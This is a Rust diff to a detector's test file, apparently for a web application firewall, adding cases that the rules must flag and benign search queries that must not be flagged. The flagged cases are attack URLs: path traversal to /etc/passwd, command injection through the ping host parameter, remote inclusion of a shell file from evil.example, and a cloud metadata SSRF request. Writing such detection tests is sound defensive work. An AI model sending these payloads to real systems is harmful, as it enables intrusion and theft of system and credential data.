@@ -60,6 +60,9 @@ fn attacks_are_detected() {
         ("/download?file=%252e%252e%252fetc%252fpasswd", "x", "93120"),
         ("/page?inc=http://evil.example/shell.txt?", "x", "93121"),
         ("/ping?host=127.0.0.1;cat%20/etc/hosts", "x", "93130"),
+        ("/ping?host=%0aid", "x", "93130"),
+        ("/ping?host=%26%20ping%20-c%203%20127.0.0.1", "x", "93130"),
+        ("/get?file=..%c0%af..%c0%afetc/passwd", "x", "93120"),
         (
             "/fetch?url=http://169.254.169.254/latest/meta-data/",
             "x",
@@ -96,6 +99,9 @@ fn benign_requests_stay_quiet() {
         "/shop?category=shoes&sort=price-desc",
         "/login?next=%2Fdashboard",
         "/search?q=select+the+best+from+our+range+of+phones",
+        "/search?q=cat+food&sort=id",
+        "/search?q=ls+command+linux",
+        "/search?q=rock+%26+roll+id+card",
         "/forum?post=i%27d+rather+select+from+two+options",
     ];
     for url in benign {
